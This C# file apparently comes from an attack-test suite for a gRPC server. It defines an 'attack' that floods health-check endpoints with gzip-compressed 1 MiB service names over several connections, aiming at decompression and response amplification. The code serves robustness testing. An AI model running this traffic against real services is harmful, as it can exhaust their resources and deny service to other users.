using System.Text;
using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;

namespace ExtProc.Attacks.Health;

/// <summary>Health checks of services with long names; a server that repeats the name sends more than it received.</summary>
internal sealed class LongHealthNames : Attack
{
    public override Attacker By => Attacker.Peer;

    public override Task RunAsync(Target target) => target.OnManyAsync(4, async peer =>
    {
        byte[] compressed = Requests.Framed(Requests.Gzip(Requests.Field(1, Encoding.ASCII.GetBytes(new string('a', 1 << 20)))), compressed: true);
        for (int i = 0; i < target.Count(20, 500) && !peer.Gone; i++)
        {
            int stream = await peer.OpenAsync("/grpc.health.v1.Health/Check", ("grpc-encoding", "gzip"));
            await peer.SendAsync(stream, compressed, endStream: true);
        }
    });
}
